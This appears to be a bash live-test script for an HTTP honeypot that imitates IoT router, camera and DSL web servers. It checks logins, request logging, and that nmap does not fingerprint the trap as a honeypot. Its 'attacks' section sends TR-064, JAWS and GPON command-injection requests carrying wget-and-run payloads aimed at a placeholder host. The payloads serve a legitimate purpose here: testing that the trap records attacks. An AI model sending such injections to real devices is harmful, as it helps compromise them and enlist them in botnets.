#!/bin/bash
# The HTTP trap in the real program with real clients, in a network namespace of its own: every persona's servers, how requests come,
# log-ins, a browser where there is one, what attacks are after, what nmap takes it for, what a crowd costs.
set -uo pipefail
# shellcheck source=tests/live/scenario.sh
source "$TEITEN_SOURCE/tests/live/scenario.sh"
web=$TEITEN_SOURCE/tests/trap/web.py

needs curl nmap nc python3 sqlite3 pgrep

# begin NAME PROGRAM SECTION.KEY=VALUE...: observes into $TMPDIR/NAME, with HTTP only
begin() {
    local name=$1 program=$2 set=() one
    shift 2
    for one in trap.telnet=127.0.0.1:0 trap.netis=127.0.0.1:0 "$@"; do
        set+=(--set "$one")
    done
    : >"$TMPDIR/$name.log"
    netns_start SENSOR "$program" observe --interface sensor0 --state "$TMPDIR/$name" "${set[@]}" 2>>"$TMPDIR/$name.log"
    observer=$netns_pid
    until_true 20 said "$name" " started " || fail "$name does not begin"
}

end() {
    netns_stop "$observer" || fail "$1 ended with $?"
    said "$1" " stopped " || fail "$1 did not say that it stopped"
}

visit() {
    netns_in SENSOR curl --silent --show-error --max-time 20 "$@"
}

number() { # NAME SQL
    sqlite3 -readonly "$TMPDIR/$1/teiten.db" "$2"
}

# events NAME PYTHON: whether it holds of e, all events of all sessions in their order
events() {
    local id
    for id in $(number "$1" "select printf('%016x', id) from session order by id"); do
        "$release" session "$id" --json --state "$TMPDIR/$1"
    done | python3 -c "
import json, sys
text, at, e = sys.stdin.read(), 0, []
while text[at:].strip():
    d, n = json.JSONDecoder().raw_decode(text[at:].lstrip())
    at += n + len(text[at:]) - len(text[at:].lstrip())
    e += d['events']
sys.exit(not ($2))"
}

# ---- a street of devices: every server of every persona ----

all_ports=0.0.0.0:80,0.0.0.0:81,0.0.0.0:5000,0.0.0.0:7547,0.0.0.0:30005,0.0.0.0:37215,0.0.0.0:52869,0.0.0.0:60001

street() {
    begin street "$release" "trap.http=$all_ports"
    netns_in SENSOR python3 - <<'END' || fail "nobody answers"
import socket
for i in range(1, 250):
    with socket.create_connection((f"127.0.0.{i}", 80), 10) as s:
        s.sendall(b"HEAD / HTTP/1.0\r\n\r\n")
        assert s.recv(5) == b"HTTP/", i
END
    until_true 10 eval '(($(number street "select count(*) from session where end is not null") == 249))' || fail "sessions are missing"
    holds street "all(s['service'] == 'http' for s in d)" sessions --limit 0 || fail "the service is not told"
    "$release" sessions --limit 0 --json --state "$TMPDIR/street" | python3 -c '
import json, sys
found = {s["persona"]: s["destination"] for s in json.load(sys.stdin)}
for persona, address in sorted(found.items()):
    print(address, persona)' >"$TMPDIR/where"
    (($(wc -l <"$TMPDIR/where") >= 20)) || fail "249 addresses play $(wc -l <"$TMPDIR/where") personas"
    netns_in SENSOR python3 "$web" servers "$TEITEN_SOURCE/personas" "$TMPDIR/where" "$TEITEN_SOURCE/tests/trap/recog-http.tsv" ||
        fail "see above"
    # What nmap makes of some: a device's web server, never a honeypot
    awk '$2 ~ /bcm96328|hi3520|rt5350|rtl8196c|sd5115|geode|hi3798|kirkwood/ { print $1 }' "$TMPDIR/where" >"$TMPDIR/targets"
    netns_in SENSOR nmap -n -Pn -sV -p 80 --version-intensity 5 -iL "$TMPDIR/targets" -oX "$TMPDIR/nmap.xml" >/dev/null ||
        fail "nmap ended with $?"
    python3 - "$TMPDIR/nmap.xml" "$TMPDIR/where" <<'END' || fail "see above"
import re, sys, xml.etree.ElementTree as tree
where = dict(line.split() for line in open(sys.argv[2]))
wanted = {"bcm96328-dsl": "micro_httpd", "hi3520-recorder": "uc-httpd", "rt5350-camera": "GoAhead", "rtl8196c-router": "Boa",
          "hi3798-settop": "lighttpd", "kirkwood-storage": "lighttpd"}
bad = seen = 0
for host in tree.parse(sys.argv[1]).iter("host"):
    persona = where[host.find("address").get("addr")]
    service = host.find("ports/port/service")
    product = service.get("product") or ""
    print(f"{persona:20} {service.get('name'):8} {product} {service.get('version') or ''}")
    seen += 1
    bad += (service.get("name") not in ("http", "upnp") or wanted.get(persona, "") not in product or
            bool(re.search("honey|cowrie|glastopf|dionaea", product, re.I)))
sys.exit(bad > 0 or seen < 7)
END
    end street
}

# ---- programs as people have them ----

clients() {
    local at=http://127.0.0.1:8080 out=$TMPDIR/out
    begin clients "$TEITEN" trap.http=127.0.0.1:8080,[::1]:8080 trap.persona=mt7622-router
    visit --verbose "$at/" "$at/index.html" >"$out" 2>"$TMPDIR/curl" || fail "curl: $(<"$TMPDIR/curl")"
    grep -q "Re-using existing connection" "$TMPDIR/curl" || fail "the connection is not gone on with"
    (($(grep -c 'href="/cgi-bin/luci"' "$out") == 2)) || fail "$(<"$out")"
    visit --http1.0 "$at/" | grep -q LuCI || fail "no HTTP/1.0"
    visit -6 'http://[::1]:8080/' | grep -q LuCI || fail "no IPv6"
    visit --head "$at/" | grep -q "^Content-Length: " || fail "HEAD"
    visit -H "Transfer-Encoding: chunked" --data luci_username=root --data luci_password=nosuch "$at/cgi-bin/luci" |
        grep -q "Wrong user name" || fail "a log-in in chunks"
    head -c 2000000 /dev/zero | visit -H "Expect: 100-continue" --data-binary @- "$at/nowhere" | grep -q "not found" || fail "2 MB"
    visit --cookie-jar "$TMPDIR/jar" --location --data "luci_username=root&luci_password=admin" "$at/cgi-bin/luci" |
        grep -q "Overview" || fail "a log-in"
    visit --cookie "$TMPDIR/jar" "$at/cgi-bin/luci/admin/status" | grep -q "MediaTek" || fail "the cookie opens nothing"
    visit --location "$at/cgi-bin/luci/admin/status" | grep -q "Authorization Required" || fail "it is open without a cookie"
    visit --insecure "https://127.0.0.1:8080/" 2>/dev/null && fail "it speaks TLS"
    printf 'GET / HTTP/1.0\r\n\r\n' | netns_in SENSOR nc -N 127.0.0.1 8080 | grep -aq LuCI || fail "nc"
    netns_in SENSOR python3 "$web" wire 127.0.0.1 8080 || fail "how requests come"
    end clients
    events clients "[(x['user'], x['password'], x['accepted']) for x in e if x['type'] == 'login'] ==
        [('root', 'nosuch', False), ('root', 'admin', True)]" || fail "log-ins are not told"
    events clients "[x for x in e if x['type'] == 'request' and x.get('method') == 'HEAD' and x['target'] == '/' and x['status'] == 200 and
        x['host'] == '127.0.0.1:8080' and x['agent'].startswith('curl/')]" || fail "requests are not told"
    events clients "[x['size'] for x in e if x['type'] == 'request' and x.get('target') == '/nowhere'] == [2000000]" ||
        fail "sizes are not told"
    holds clients "all(s['service'] == 'http' and s['end'] for s in d) and sum(s['logged_in'] for s in d) == 1" sessions --limit 0 ||
        fail "$("$release" sessions --state "$TMPDIR/clients")"
    "$release" verify --state "$TMPDIR/clients" >/dev/null || fail "verify finds fault with sessions"
}

# ---- a browser ----

browse() { # URL: what the page has become
    netns_in SENSOR timeout 60 chromium --headless --no-sandbox --disable-gpu --disable-dev-shm-usage --no-first-run \
        --disable-background-networking --user-data-dir="$TMPDIR/browser" --virtual-time-budget=5000 --dump-dom "$1" 2>"$TMPDIR/browser.err"
}

browser() {
    local form='data:text/html,<form id="f" method="post" action="http://127.0.0.1/cgi-bin/luci"><input name="luci_username" value="root">'
    form+='<input name="luci_password" value="admin"></form><script>f.submit()</script>'
    if ! command -v chromium >/dev/null; then
        echo "skipped: browser, needs chromium"
        return
    fi
    begin browser "$release" trap.http=127.0.0.1:80 trap.persona=mt7622-router
    browse http://127.0.0.1/ >"$TMPDIR/page" || fail "chromium: $(<"$TMPDIR/browser.err")"
    grep -q '<input type="password" name="luci_password">' "$TMPDIR/page" || fail "it does not come to the log-in: $(<"$TMPDIR/page")"
    browse "$form" >"$TMPDIR/page" || fail "chromium: $(<"$TMPDIR/browser.err")"
    grep -q "MediaTek MT7622" "$TMPDIR/page" || fail "it does not get in: $(<"$TMPDIR/page")"
    end browser
    events browser "[(x['user'], x['password'], x['accepted']) for x in e if x['type'] == 'login'] == [('root', 'admin', True)]" ||
        fail "its log-in is not told"
    events browser "all('Chrome' in x['agent'] for x in e if x['type'] == 'request')" || fail "it is not told what it was"
}

# ---- what attacks are after (harmless commands) ----

attacks() {
    begin attacks "$TEITEN" trap.http=127.0.0.1:7547,127.0.0.1:80 trap.persona=rt63365-dsl
    visit -H 'SOAPAction: urn:dslforum-org:service:Time:1#SetNTPServers' --data-binary '<?xml version="1.0"?><E><B><u:SetNTPServers>
        <NewNTPServer1>`cd /tmp;wget http://192.0.2.1/a;sh a`</NewNTPServer1></u:SetNTPServers></B></E>' \
        'http://127.0.0.1:7547/UD/act?1' | grep -q SetNTPServersResponse || fail "TR-064 is not answered"
    visit 'http://127.0.0.1/shell?cd+/tmp;wget+http://192.0.2.1/b' -o /dev/null
    visit --data 'dest_host=`id`;wget+http://192.0.2.1/c' 'http://127.0.0.1/GponForm/diag_Form?images/' -o /dev/null
    end attacks
    events attacks "[(x['entry'], x['status']) for x in e if x['type'] == 'request'] ==
        [('tr064-ntp', 200), ('jaws-shell', 404), ('gpon-diag', 404)]" || fail "entry points are not told"
    events attacks "[x['url'] for x in e if x['type'] == 'download'] == ['http://192.0.2.1/' + c for c in 'abc']" ||
        fail "downloads are not told"
    events attacks "[x['command'] for x in e if x['type'] == 'command'] == ['cd /tmp;wget http://192.0.2.1/a;sh a',
        'cd /tmp;wget http://192.0.2.1/b', 'id', 'wget http://192.0.2.1/c']" || fail "commands are not told"
    holds attacks "sorted((x['name'], x['count'], x['sources']) for x in d) ==
        [('gpon-diag', 1, 1), ('jaws-shell', 1, 1), ('tr064-ntp', 1, 1)]" top entries || fail "top entries"
    holds attacks "sum(s['downloads'] for s in d) == 3 and sum(s['commands'] for s in d) == 4" sessions || fail "sessions do not count them"
}

# ---- those who say nothing ----

used() {
    local pid sum=0
    for pid in $(pgrep -P "$observer" -f '^teiten-trap$'); do
        sum=$((sum + $(awk '{ print $14 + $15 }' "/proc/$pid/stat")))
    done
    echo "$sum"
}

crowd() {
    local before
    begin crowd "$release" trap.http=127.0.0.1:80 trap.workers=1 trap.persona=hi3798-settop trap.source=2000 trap.network=2000
    coproc HOLD { netns_in SENSOR python3 "$web" hold 1000 127.0.0.1 80; }
    read -r -t 60 -u "${HOLD[0]}" held && [[ $held == "answered in 0"* ]] || fail "behind a crowd: ${held-nothing}"
    before=$(used)
    sleep 2
    (($(used) - before < 30)) || fail "silent visitors cost $(($(used) - before)) hundredths of processor time in 2 s"
    exec {HOLD[1]}>&-
    wait "$HOLD_PID" || fail "behind a crowd it is not answered well"
    end crowd
}

# ONLY: some of them
netns_up || fail "no namespaces"
for what in ${ONLY:-street clients browser attacks crowd}; do
    "$what"
done
echo PASS
